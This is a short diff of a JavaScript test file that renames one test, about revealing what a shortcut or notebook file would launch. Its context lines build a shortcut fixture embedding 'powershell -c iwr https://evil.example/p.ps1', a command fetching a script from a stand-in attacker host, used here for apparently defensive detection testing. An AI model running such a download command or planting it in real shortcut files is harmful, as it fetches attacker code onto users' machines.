@@ -201,7 +201,7 @@ describe('a document', () => {
     expect(failing.links).toHaveLength(1);
   });
 
-  it('that is a shortcut or a notebook tells what it would start', async () => {
+  it('that is a shortcut or a notebook shows what it would start', async () => {
     const command = Buffer.from('powershell -c iwr https://evil.example/p.ps1', 'utf16le');
     const shortcut = Buffer.concat([
       Buffer.from('L\0\0\0\x01\x14\x02\0', 'latin1'),
